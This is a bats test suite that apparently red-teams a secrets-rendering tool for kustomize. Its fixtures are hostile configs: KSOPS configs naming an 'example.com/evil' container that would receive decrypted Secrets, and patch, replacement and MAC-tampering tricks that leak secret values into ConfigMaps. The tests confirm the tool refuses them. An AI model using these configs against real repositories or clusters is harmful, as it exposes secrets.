#!/usr/bin/env bats
# Red team 27 on the cluster side: what in a repository's generator
# configs makes kustomize run a program. Runs the real `kubectl kustomize`.

bats_require_minimum_version 1.5.0
load k8s_helpers

# a docker on PATH that notes it ran and reads what kustomize hands a
# container function (the resources, the decrypted Secrets among them)
setup() {
	k8s_repo_setup
	mkdir -p "$TMP/bin"
	printf '#!/bin/sh\ncat >"%s/docker-stdin"\ntouch "%s/docker-ran"\nexit 1\n' "$TMP" "$TMP" >"$TMP/bin/docker"
	chmod +x "$TMP/bin/docker"
	PATH="$TMP/bin:$PATH"
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: t0p-s3cr3t\n' >"$TMP/s.yaml"
	seal "$TMP/s.yaml" "$REPO/app/s.enc.yaml"
}
teardown() { teardown_tmp; }

# K1: kustomize runs a plugin config as a KRM function when its
# metadata.configFn or its legacy config.kubernetes.io/container annotation
# names one (kyaml GetFunctionSpec), not only by the two function
# annotations render dropped: a KSOPS config carrying either ran
# `docker run IMAGE` in the plugin's place under --enable-alpha-plugins,
# and, listed as a transformer after a KSOPS generator, handed that image
# the decrypted Secret on its standard input.
@test "K1: a KSOPS config's metadata.configFn or legacy container annotation runs no container: dropped, the config runs as KSOPS" {
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: g\n  configFn:\n    container:\n      image: example.com/evil\nfiles: [s.enc.yaml]\n' \
		>"$REPO/app/gen.yaml"
	printf 'generators: [gen.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	[ ! -e "$TMP/docker-ran" ]
	grep -qx '  password: t0p-s3cr3t' <<<"$output"
	! grep -q 'configFn\|example.com/evil' <<<"$output" || false
	# the legacy annotation on a transformer after a KSOPS generator
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: g\nfiles: [s.enc.yaml]\n' >"$REPO/app/gen.yaml"
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: t\n  annotations:\n    config.kubernetes.io/container: example.com/evil\nfiles: [s.enc.yaml]\n' \
		>"$REPO/app/tr.yaml"
	printf 'generators: [gen.yaml]\ntransformers: [tr.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ ! -e "$TMP/docker-ran" ]
	[ ! -e "$TMP/docker-stdin" ]
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	grep -qx '  password: t0p-s3cr3t' <<<"$output"
	! grep -q 'example.com/evil' <<<"$output" || false
	# inline, where the config cannot be rewritten: refused
	printf 'generators:\n- |-\n  apiVersion: viaduct.ai/v1\n  kind: ksops\n  metadata:\n    name: g\n    configFn: {container: {image: example.com/evil}}\n  files: [s.enc.yaml]\n' \
		>"$REPO/app/kustomization.yaml"
	app_refused "'app/kustomization.yaml' (inline config): a KSOPS config naming a KRM function (an annotation or configFn), or a gitseal.dev/v1 SecretGenerator, must be in a file of its own"
	[ ! -e "$TMP/docker-ran" ]
	# any other config naming a function so is refused, as with the annotations
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: g\nfiles: [s.enc.yaml]\n' >"$REPO/app/gen.yaml"
	printf 'apiVersion: example.com/v1\nkind: Gen\nmetadata:\n  name: x\n  configFn:\n    container:\n      image: example.com/evil\n' >"$REPO/app/evil.yaml"
	printf 'generators: [gen.yaml, evil.yaml]\n' >"$REPO/app/kustomization.yaml"
	app_refused "'app/evil.yaml': example.com/v1/Gen is a KRM function: exec and container functions from the repository are not run"
	[ ! -e "$TMP/docker-ran" ]
}

# K2: a decrypted patch applies to v1 Secrets only, checked by the target of
# the kustomization's patches entry that names it (redteam3.bats F2); the
# build reads the staged, decrypted copy. A builtin PatchTransformer config
# naming the same file went unwalked: aimed at a ConfigMap, it published
# the Secret patch's values there (a value under the tracker's 6 bytes went
# out, exit 0; a longer one was caught only by the tracker).
@test "K2: a builtin patch transformer config is walked as a patches entry: its target is checked, a decrypted patch goes to Secrets only" {
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  pin: "31337"\n' >"$TMP/p.yaml"
	seal "$TMP/p.yaml" "$REPO/app/patch.enc.yaml"
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: placeholder\n' >"$REPO/app/secret.yaml"
	printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: db\ndata:\n  note: public\n' >"$REPO/app/cm.yaml"
	printf 'apiVersion: builtin\nkind: PatchTransformer\nmetadata:\n  name: pt\npath: patch.enc.yaml\ntarget:\n  kind: ConfigMap\n' >"$REPO/app/pt.yaml"
	printf 'resources: [secret.yaml, cm.yaml]\npatches:\n- path: patch.enc.yaml\n  target: {kind: Secret, version: v1}\ntransformers: [pt.yaml]\n' \
		>"$REPO/app/kustomization.yaml"
	app_refused "'app/patch.enc.yaml' is encrypted: a patch target that can select another kind would publish it (target kind: Secret, version v1 or none, no group)"
	# a JSON 6902 patch transformer reading it likewise, whatever its target
	printf 'apiVersion: builtin\nkind: PatchJson6902Transformer\nmetadata:\n  name: pt\npath: patch.enc.yaml\ntarget: {kind: Secret, name: db, version: v1}\n' >"$REPO/app/pt.yaml"
	app_refused "'app/patch.enc.yaml' is encrypted: a patch target that can select another kind would publish it (target kind: Secret, version v1 or none, no group)"
	# aimed at Secrets, the builtin config patches them, alone
	printf 'apiVersion: builtin\nkind: PatchTransformer\nmetadata:\n  name: pt\npath: patch.enc.yaml\ntarget:\n  kind: Secret\n' >"$REPO/app/pt.yaml"
	printf 'resources: [secret.yaml, cm.yaml]\ntransformers: [pt.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	[ "$(grep -c '31337' <<<"$output")" -eq 1 ]
	python3 -c '
import sys, yaml
docs = {d["kind"]: d for d in yaml.safe_load_all(sys.stdin)}
assert docs["Secret"]["stringData"]["pin"] == "31337", docs
assert "pin" not in str(docs["ConfigMap"]), docs' <<<"$output"
}

# K3: kustomize reads a file once, from the stage, where a patch or a
# secretGenerator source is decrypted; an encrypted resource goes through
# the build as ciphertext and is bound to its values after it (a value
# copied elsewhere is refused by its ciphertext). Named both as a patch
# and as a resource, the file was read decrypted as the resource: a
# replacement copied its value into a ConfigMap, which went out, exit 0
# (a value of 5 bytes, under the tracker's floor).
@test "K3: an encrypted file decrypted for the build as a patch or secretGenerator source cannot also be a resource" {
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  pin: "31337"\n' >"$TMP/p.yaml"
	seal "$TMP/p.yaml" "$REPO/app/s.enc.yaml"
	printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\ndata:\n  note: public\n' >"$REPO/app/cm.yaml"
	printf 'resources: [cm.yaml, s.enc.yaml]\npatches:\n- path: s.enc.yaml\n  target: {kind: Secret, version: v1}\nreplacements:\n- source: {kind: Secret, name: db, fieldPath: stringData.pin}\n  targets:\n  - select: {kind: ConfigMap, name: cm}\n    fieldPaths: [data.note]\n' \
		>"$REPO/app/kustomization.yaml"
	app_refused "'app/s.enc.yaml' is encrypted and decrypted for the build as a patch or secretGenerator source: kustomize would read that plaintext where the kustomization names it as a resource too"
	# a secretGenerator source likewise
	printf 'resources: [cm.yaml, s.enc.yaml]\nsecretGenerator:\n- name: gen\n  files: [s.enc.yaml]\n' >"$REPO/app/kustomization.yaml"
	app_refused "'app/s.enc.yaml' is encrypted and decrypted for the build as a patch or secretGenerator source: kustomize would read that plaintext where the kustomization names it as a resource too"
	# as a resource alone, the copy is refused by its ciphertext, as before
	printf 'resources: [cm.yaml, s.enc.yaml]\nreplacements:\n- source: {kind: Secret, name: db, fieldPath: stringData.pin}\n  targets:\n  - select: {kind: ConfigMap, name: cm}\n    fieldPaths: [data.note]\n' \
		>"$REPO/app/kustomization.yaml"
	app_refused "resource ConfigMap/cm (document 1): holds the encrypted values of v1 Secret/db in 'app/s.enc.yaml' document 1"
}

# K4: under mac_only_encrypted the MAC leaves a file's clear values out, a
# manifest's apiVersion and kind among them: a pull request turning a
# Secret into a ConfigMap kept the MAC, and render published its decrypted
# values in the ConfigMap (shown unmasked by Argo CD, readable by whoever
# reads ConfigMaps), exit 0, from a plain directory, a kustomization's
# resources and a KSOPS generator alike.
@test "K4: a mac_only_encrypted file renders v1 Secrets only: its kind is outside the MAC" {
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: t0p-s3cr3t\n' >"$TMP/s.yaml"
	"$FIXTURE_BIN" encrypt --age "$DEMO_RECIPIENT" --mac-only-encrypted "$TMP/s.yaml" >"$TMP/s.enc.yaml"
	cp "$TMP/s.enc.yaml" "$REPO/app/s.enc.yaml"
	# as sealed, it renders
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	grep -qx '  password: t0p-s3cr3t' <<<"$output"
	sed 's/^kind: Secret$/kind: ConfigMap/' "$TMP/s.enc.yaml" >"$REPO/app/s.enc.yaml"
	"$FIXTURE_BIN" decrypt "$REPO/app/s.enc.yaml" >/dev/null # the MAC still holds
	msg="its file's MAC leaves its clear values out (mac_only_encrypted), so its apiVersion and kind are not authenticated: only a v1 Secret is rendered from such a file"
	app_refused "'s.enc.yaml' document 1: ConfigMap/db: $msg"
	printf 'resources: [s.enc.yaml]\n' >"$REPO/app/kustomization.yaml"
	app_refused "resource ConfigMap/db (document 1): $msg"
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: k\nfiles: [s.enc.yaml]\n' >"$REPO/app/ksops.yaml"
	printf 'generators: [ksops.yaml]\n' >"$REPO/app/kustomization.yaml"
	app_refused "'app/ksops.yaml': 's.enc.yaml': document 1: $msg"
	# another apiVersion likewise
	sed 's/^apiVersion: v1$/apiVersion: example.com\/v1/' "$TMP/s.enc.yaml" >"$REPO/app/s.enc.yaml"
	app_refused "'app/ksops.yaml': 's.enc.yaml': document 1: $msg"
}

# K1b: a KSOPS config render rewrites (its function annotation dropped)
# naming more files than the walk's array held: the array grew while
# render still held a pointer into it for the rewrite (a read after free,
# seen under ASan).
@test "K1b: a KSOPS config to rewrite that names 40 files renders them all" {
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata:\n  name: g\n  annotations:\n    config.kubernetes.io/function: "container: {image: example.com/evil}"\nfiles:\n' >"$REPO/app/gen.yaml"
	for i in $(seq 1 40); do
		printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: s%d\nstringData:\n  k: v%d-s3cr3t\n' "$i" "$i" >"$TMP/p.yaml"
		seal "$TMP/p.yaml" "$REPO/app/s$i.enc.yaml"
		printf -- '- s%d.enc.yaml\n' "$i" >>"$REPO/app/gen.yaml"
	done
	printf 'generators: [gen.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	[ ! -e "$TMP/docker-ran" ]
	[ "$(grep -c '^  k: v[0-9]*-s3cr3t$' <<<"$output")" -eq 40 ]
}
